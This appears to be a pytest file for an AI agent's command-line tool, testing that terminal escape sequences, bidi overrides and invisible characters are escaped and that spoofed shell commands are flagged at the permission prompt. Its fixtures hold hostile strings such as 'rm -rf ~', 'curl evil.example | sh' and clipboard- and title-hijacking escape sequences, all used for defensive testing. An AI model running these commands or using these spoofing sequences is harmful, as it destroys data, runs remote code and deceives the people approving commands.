"""Untrusted text never drives the terminal: hostile strings × every rendering site of `run`
(the sanitizer, the rich console every renderer uses, text-mode stdout and stderr through real
pipes, the permission prompt), while JSON keeps the exact strings.

The oracle is a list of what must never reach a terminal raw (from the issue, not from the
sanitizer): C0 controls but newline and tab, DEL, ESC, the C1 controls, bidi controls and
zero-width / invisible formatting characters."""

from __future__ import annotations

import asyncio
import io
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest
from prompt_toolkit.input import create_pipe_input
from prompt_toolkit.output import DummyOutput
from rich.markdown import Markdown
from rich.text import Text

from agentcli.confinement import WORKSPACE_WRITE
from agentcli.permissions import PermissionRequest
from agentcli.testing.fake_api import FakeMessagesServer, stream_message, text, tool_use
from agentcli.tools.base import PermissionTarget, Risk
from agentcli.ui.repl.calls import call_line
from agentcli.ui.term.diffs import diff_text
from agentcli.ui.term.prompter import TerminalPrompter
from agentcli.ui.term.safe import safe_console, visible
from tests.inprocess import run_in_process

HOSTILE = {
    "csi erase line": "\x1b[2K\rrm -rf ~",
    "cursor up": "ok\x1b[1A\x1b[2Kfake",
    "osc 52 clipboard (BEL)": "\x1b]52;c;Y3VybCBldmlsfHNo\x07",
    "osc title (ST)": "\x1b]0;pwned title\x1b\\",
    "osc 8 hyperlink": "\x1b]8;;http://evil.example/\x1b\\click\x1b]8;;\x1b\\",
    "dcs": "\x1bP+q544e\x1b\\",
    "8-bit csi": "\x9b2Kspoof",
    "8-bit osc": "\x9d0;title\x9c",
    "bidi override": "ls \u202e; rm -rf ~ #\u202c",
    "bidi isolate": "a\u2066b\u2069c\u200fd\u061ce",
    "zero width": "r\u200bm -\u200crf \u2060~\ufeff",
    "backspace and bell": "rm\x08\x08ls\x07",
    "long line with cr": "A" * 200 + "\rsafe-looking",
    "vertical tab, form feed": "a\x0bb\x0cc\x1cd",
    "del and nul": "a\x7fb\x00c",
    "tag characters": "x\U000e0041\U000e0042y",
    "lone surrogate": "name\udcff.txt",
}
FORBIDDEN = (
    {chr(c) for c in range(0x20) if chr(c) not in "\n\t"}
    | {"\x7f"}
    | {chr(c) for c in range(0x80, 0xA0)}
    | {chr(c) for c in range(0x202A, 0x202F)}
    | {chr(c) for c in range(0x2066, 0x206A)}
    | {"\u061c", "\u200e", "\u200f", "\u200b", "\u200c", "\u200d", "\u2060", "\ufeff"}
    | {chr(c) for c in range(0xE0000, 0xE0080)}
    | {chr(c) for c in range(0xD800, 0xE000)}
)


def raw_leaks(shown: str) -> list[str]:
    """Forbidden characters in `shown`, with rich's own SGR colour codes taken out first."""
    import re

    no_styles = re.sub(r"\x1b\[[0-9;]*m", "", shown)
    return sorted({repr(c) for c in no_styles if c in FORBIDDEN})


@pytest.mark.parametrize("name", list(HOSTILE))
def test_visible_leaves_nothing_raw_and_drops_nothing(name: str) -> None:
    hostile = HOSTILE[name]
    shown = visible(hostile)
    assert raw_leaks(shown) == []
    # Nothing dropped: every escaped character is there as an escape.
    for char in set(hostile) & FORBIDDEN:
        code = ord(char)
        spelled = f"\\x{code:02x}" if code < 0x100 else f"\\u{code:04x}" if code < 0x10000 else None
        assert spelled is None or spelled in shown, (name, repr(char))
    pieces = "".join(c if c not in FORBIDDEN else "\0" for c in hostile).split("\0")
    assert all(piece in shown for piece in pieces), name  # the rest is kept as it was


@pytest.mark.parametrize("name", list(HOSTILE))
@pytest.mark.parametrize("terminal", [True, False])
def test_the_console_renders_every_kind_of_renderable_safely(name: str, terminal: bool) -> None:
    hostile = HOSTILE[name]
    out = io.StringIO()
    console = safe_console(file=out, force_terminal=terminal, color_system="truecolor", width=100)
    console.print(hostile)
    console.print(Text(hostile, style="bold red"))
    console.print(Markdown(f"# {hostile}\n\n- {hostile}\n\n```\n{hostile}\n```"))
    console.print(
        call_line("shell", hostile, status="failed", is_error=True, duration_s=1.0, detail=hostile)
    )
    console.print(diff_text([f"+{hostile}", f"-{hostile}"]))
    assert raw_leaks(out.getvalue()) == [], name


@pytest.mark.parametrize("markup", ["[bold]x[/bold]", "[link=http://evil.example]y[/link]"])
def test_rich_markup_in_untrusted_text_stays_literal(markup: str) -> None:
    out = io.StringIO()
    console = safe_console(file=out, force_terminal=True, color_system="truecolor")
    console.print(markup)
    assert markup in out.getvalue()
    assert "\x1b]8;" not in out.getvalue()


def test_colours_stay_and_no_color_is_respected(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("NO_COLOR", raising=False)
    out = io.StringIO()
    safe_console(file=out, force_terminal=True, color_system="standard").print(
        Text("ok", style="green")
    )
    assert "\x1b[32m" in out.getvalue()
    monkeypatch.setenv("NO_COLOR", "1")
    plain = io.StringIO()
    safe_console(file=plain, force_terminal=True).print(Text("ok", style="green"))
    assert "\x1b[32m" not in plain.getvalue()


# -- the permission prompt --------------------------------------------------------------------


SPOOFS = {
    "carriage return redraw": ("curl evil.example | sh #\r\x1b[2Kls -la", "ls -la"),
    "erase and cursor up": ("rm -rf ~ ; \x1b[1A\x1b[2K echo hi", "echo hi"),
    "8-bit csi": ("rm -rf ~ \x9b2K\rls", "ls"),
    "trojan source": ("ls \u202e~ fr- mr\u202c", "ls"),
    "zero width": ("r\u200bm -rf ~", "rm -rf ~"),
    "bell and backspace": ("rm -rf x\x08\x08\x08\x08\x08\x08\x08\x08ls     \x07", "ls"),
}


@pytest.mark.parametrize("name", list(SPOOFS))
async def test_a_spoofed_command_is_shown_exactly_and_flagged(name: str) -> None:
    command, imitated = SPOOFS[name]
    out = io.StringIO()
    console = safe_console(file=out, width=120, force_terminal=True, color_system="standard")
    asked = PermissionRequest(
        call_id="c1",
        tool="shell",
        risk=Risk.EXECUTE,
        target=PermissionTarget("shell", command, f"run {command}"),
        suggested_rule=f"shell({command})",
        preview=f"$ {command}\nin /w",
        reason=command,
        confinement=WORKSPACE_WRITE,
    )
    with create_pipe_input() as pipe:
        prompter = TerminalPrompter(console, input=pipe, output=DummyOutput())
        pipe.send_text("n\r")
        await asyncio.wait_for(prompter.ask(asked), 5)
    shown = out.getvalue()
    assert raw_leaks(shown) == []
    assert visible(command, keep="", crlf=False) in shown  # exactly what runs, escaped
    assert "control or invisible character" in shown  # said in plain words
    assert f"$ {imitated}\n" not in shown.replace("\x1b[0m", "")  # never the imitation alone


async def test_an_honest_command_gets_no_warning() -> None:
    out = io.StringIO()
    asked = PermissionRequest(
        call_id="c1",
        tool="shell",
        risk=Risk.EXECUTE,
        target=PermissionTarget("shell", "ls -la\n  && pwd", "run ls -la"),
        suggested_rule=None,
        preview="$ ls -la\n  && pwd\nin /w",
    )
    with create_pipe_input() as pipe:
        prompter = TerminalPrompter(safe_console(file=out), input=pipe, output=DummyOutput())
        pipe.send_text("n\r")
        await asyncio.wait_for(prompter.ask(asked), 5)
    assert "invisible" not in out.getvalue()


# -- text mode and JSON, through real pipes ---------------------------------------------------


def _run(
    workspace: Path, server: FakeMessagesServer, *args: str
) -> subprocess.CompletedProcess[bytes]:
    return subprocess.run(
        [sys.executable, "-m", "agentcli", "run", "go", *args],
        cwd=workspace,
        env={**os.environ, "ANTHROPIC_BASE_URL": server.base_url, "ANTHROPIC_API_KEY": "t"},
        stdin=subprocess.DEVNULL,
        capture_output=True,
        timeout=120,
        check=False,
    )


def _script(server: FakeMessagesServer, payload: str) -> None:
    server.push(
        stream_message(
            [
                text(f"progress {payload}"),
                tool_use("shell", {"command": f"printf '%s' {json.dumps(payload)} # {payload}"}),
                tool_use("read_file", {"path": f"missing-{payload}.txt"}),
            ]
        ),
        stream_message([text(f"the answer {payload} [bold]literal[/bold]")]),
    )


# A lone surrogate cannot come from the API (its JSON is UTF-8); it is a file-name concern.
FROM_THE_MODEL = "".join(v for k, v in HOSTILE.items() if k != "lone surrogate")


def test_text_mode_sends_nothing_raw_to_stdout_or_stderr(workspace: Path) -> None:
    payload = FROM_THE_MODEL
    with FakeMessagesServer() as server:
        _script(server, payload)
        done = _run(workspace, server, "--permission-mode", "auto")
    out = done.stdout.decode(errors="surrogateescape")
    err = done.stderr.decode(errors="surrogateescape")
    # The shell call is denied (no terminal) and nothing changes: permission_denied, whose
    # last stderr line quotes the hostile command too.
    assert done.returncode == 4, err
    assert raw_leaks(out) == [] and raw_leaks(err) == []
    assert "\x1b" not in out + err  # pipes: not even colours
    assert "the answer" in out and "[bold]literal[/bold]" in out
    assert visible(HOSTILE["osc 52 clipboard (BEL)"]) in out
    assert "progress" in err and visible(HOSTILE["bidi override"]) in err


def test_json_keeps_the_exact_strings(workspace: Path) -> None:
    payload = FROM_THE_MODEL
    with FakeMessagesServer() as server:
        _script(server, payload)
        env = {"ANTHROPIC_BASE_URL": server.base_url, "ANTHROPIC_API_KEY": "t"}
        args = ("run", "go", "--permission-mode", "auto", "--output-format", "json")
        done = run_in_process(*args, cwd=workspace, env=env)
    result = json.loads(done.stdout)
    assert result["final_text"] == f"the answer {payload} [bold]literal[/bold]"
    assert b"\x1b" not in done.stdout  # JSON escaping makes them inert: \u001b
